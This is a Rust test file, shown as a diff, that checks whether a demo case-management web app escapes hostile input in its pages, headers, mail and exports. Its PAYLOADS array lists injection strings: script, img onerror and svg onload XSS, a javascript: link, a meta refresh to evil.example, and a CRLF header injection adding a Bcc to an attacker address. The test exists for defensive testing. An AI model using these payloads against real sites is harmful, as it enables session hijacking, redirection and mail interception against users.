@@ -1,0 +1,259 @@
+//! Hostile text in every field that a person can fill, looked at wherever it is shown: pages, heads,
+//! headers, mail, files and exports.
+
+use crate::support::{
+    Browser, Demo,
+    browser::{Answer, Form, forms},
+    pages,
+};
+use std::collections::{BTreeMap, BTreeSet};
+
+/// The demo's cases, by number.
+const CASES: std::ops::RangeInclusive<u32> = 1001..=1030;
+
+/// Short, so that names take them too; and what must then stand nowhere.
+const PAYLOADS: [(&str, &[&str]); 7] = [
+    (
+        "</title><meta http-equiv=refresh content=0;url=//evil.example>",
+        &["<meta http-equiv=refresh"],
+    ),
+    (
+        "</textarea><script>alert(1)</script>",
+        &["<script>alert(1)"],
+    ),
+    ("--><img src=x onerror=alert(2)>", &["<img src=x"]),
+    ("\"'><svg onload=alert(3)>", &["<svg onload"]),
+    (
+        "\" autofocus onfocus=\"alert(4)",
+        &["\" autofocus onfocus=\""],
+    ),
+    (
+        "javascript:alert(5)//https://a.example",
+        &["href=\"javascript:", "href=javascript:"],
+    ),
+    (
+        "x\r\nBcc: evil@evil.example\r\nSet-Cookie: ud=evil",
+        &["\nBcc: evil@evil"],
+    ),
+];
+
+/// Steps that would shut the test's own people out.
+const LEFT_ALONE: [&str; 8] = [
+    "demo_sign_in",
+    "sign_in",
+    "sign_out",
+    "disable_person",
+    "enable_person",
+    "set_roles",
+    "leave_app",
+    "remove_member",
+];
+
+/// What an honest person would type.
+fn honest<'a>(field: &str, fixed: &'a str) -> &'a str {
+    match field {
+        name if name.contains("mail") || name == "person" => "someone@example.org",
+        name if name.contains("url") || name.contains("website") || name.contains("link") => {
+            "https://example.org/x"
+        }
+        name if name.contains("password") => "correct horse battery",
+        name if name.contains("due") || name.contains("date") || name == "until" => "",
+        "username" => "someone-new",
+        _ => fixed,
+    }
+}
+
+struct Attack<'a> {
+    payload: &'a str,
+    forbidden: &'a [&'a str],
+    /// Steps with the field that took the payload.
+    taken: BTreeSet<(String, String)>,
+    tries: BTreeMap<(String, String), u32>,
+}
+
+impl Attack<'_> {
+    fn assert_harmless(&self, what: &str, answer: &Answer) {
+        assert!(
+            (200..500).contains(&answer.status),
+            "{what}: {} {}",
+            answer.status,
+            answer.body
+        );
+        for text in self.forbidden {
+            assert!(
+                !answer.body.contains(text),
+                "{what}: {text} in {}",
+                answer.body
+            );
+        }
+        assert!(answer.header("bcc").is_none(), "{what}");
+        assert!(
+            !answer
+                .headers
+                .iter()
+                .any(|(name, value)| name == "set-cookie" && value.contains("evil")),
+            "{what}"
+        );
+        if answer.body.starts_with("<!DOCTYPE") {
+            // A page that only sends on has none.
+            assert!(
+                answer.body.matches("</title>").count() <= 1,
+                "{what}: {}",
+                answer.body
+            );
+        }
+    }
+
+    fn fill(&mut self, browser: &mut Browser, path: &str, form: &Form) {
+        let step = form.action.rsplit('/').next().unwrap().to_owned();
+        if LEFT_ALONE.contains(&step.as_str()) {
+            return;
+        }
+        for field in &form.texts {
+            let pair = (step.clone(), field.clone());
+            let tries = self.tries.entry(pair.clone()).or_default();
+            if self.taken.contains(&pair) || *tries >= 2 {
+                continue;
+            }
+            *tries += 1;
+            // Each form is sent once: its key is new on each page.
+            let page = browser.get(path);
+            let Some(form) = forms(&page.body)
+                .into_iter()
+                .find(|one| one.action == form.action && one.texts == form.texts)
+            else {
+                continue;
+            };
+            let mut fields: Vec<(&str, &str)> = form
+                .fixed
+                .iter()
+                .map(|(name, value)| (name.as_str(), value.as_str()))
+                .collect();
+            fields.extend(form.texts.iter().map(|name| match name == field {
+                true => (name.as_str(), self.payload),
+                false => (name.as_str(), honest(name, "Said in good faith.")),
+            }));
+            let what = format!("{} {field} from {path}", form.action);
+            let answer = browser.post(&form.action, &fields);
+            let refused = answer
+                .header("location")
+                .is_some_and(|to| to.contains("kept="));
+            let shown = browser.follow(answer);
+            self.assert_harmless(&what, &shown);
+            if !refused && shown.status < 300 {
+                self.taken.insert(pair);
+            }
+        }
+    }
+}
+
+fn paths() -> Vec<String> {
+    let mut all = pages(1001);
+    for number in CASES {
+        all.push(format!("/cases/UD-{number}"));
+        all.push(format!("/applications/UD-{number}"));
+        for step in ["decline", "approve", "clarify", "reopen", "assign"] {
+            all.push(format!("/cases/UD-{number}/{step}"));
+        }
+        for step in ["answer", "corrections", "withdraw", "check", "agreement"] {
+            all.push(format!("/applications/UD-{number}/{step}"));
+        }
+    }
+    all
+}
+
+/// Addresses of `start` that a page links to.
+fn linked(page: &Answer, start: &str) -> BTreeSet<String> {
+    let links = page.body.split("href=\"").skip(1);
+    links
+        .filter_map(|rest| rest.split('"').next())
+        .filter(|href| href.starts_with(start))
+        .map(str::to_owned)
+        .collect()
+}
+
+fn attack(payload: &str, forbidden: &[&str]) {
+    let demo = Demo::start();
+    let mut attack = Attack {
+        payload,
+        forbidden,
+        taken: BTreeSet::new(),
+        tries: BTreeMap::new(),
+    };
+    let paths = paths();
+    for username in ["", "maya", "ito", "anders", "lena", "dana", "chen"] {
+        let mut browser = match username {
+            "" => demo.browser(),
+            username => demo.signed_in(username),
+        };
+        let mut to_see = paths.clone();
+        let apps = browser.get("/apps");
+        for app in linked(&apps, "/apps/") {
+            to_see.push(format!("{app}/edit"));
+            to_see.push(format!("{app}/members"));
+            to_see.push(app);
+        }
+        for path in &to_see {
+            let page = browser.get(path);
+            attack.assert_harmless(&format!("{username} {path}"), &page);
+            for form in forms(&page.body) {
+                attack.fill(&mut browser, path, &form);
+            }
+        }
+    }
+    let breaks_lines = payload.contains('\r');
+    if !breaks_lines {
+        let app = ("create_app".to_owned(), "name".to_owned());
+        assert!(attack.taken.contains(&app), "{:?}", attack.taken);
+        assert!(attack.taken.len() > 8, "{:?}", attack.taken);
+    }
+
+    // Now everybody looks at everything, mail and exports too.
+    for username in ["maya", "lena", "anders", "dana", "chen"] {
+        let mut browser = demo.signed_in(username);
+        let mut to_see = paths.clone();
+        for list in ["/apps", "/queue?view=all", "/admin/people", "/demo/mail"] {
+            let page = browser.get(list);
+            for start in ["/apps/", "/cases/", "/admin/people/", "/demo/mail/"] {
+                to_see.extend(linked(&page, start));
+            }
+        }
+        for path in to_see {
+            attack.assert_harmless(&format!("{username} {path}"), &browser.get(&path));
+            if path.starts_with("/demo/mail/") {
+                let html = browser.get(&format!("{path}/html"));
+                attack.assert_harmless(&format!("{path}/html"), &html);
+            }
+        }
+    }
+    let mut compliance = demo.signed_in("chen");
+    let csv = compliance.post("/audit/export.csv", &[]);
+    assert_eq!(csv.status, 200, "{}", csv.body);
+    let disposition = csv.header("content-disposition").unwrap();
+    assert!(
+        disposition.is_ascii() && disposition.matches('"').count() <= 2,
+        "{disposition}"
+    );
+    assert_eq!(compliance.post("/audit/export.pdf", &[]).status, 200);
+}
+
+#[test]
+fn hostile_markup_is_text_in_heads_and_bodies() {
+    for (payload, forbidden) in &PAYLOADS[..2] {
+        attack(payload, forbidden);
+    }
+}
+
+#[test]
+fn hostile_elements_and_attributes_are_text() {
+    for (payload, forbidden) in &PAYLOADS[2..5] {
+        attack(payload, forbidden);
+    }
+}
+
+#[test]
+fn hostile_addresses_and_line_breaks_go_nowhere() {
+    for (payload, forbidden) in &PAYLOADS[5..] {
+        attack(payload, forbidden);
+    }
+}
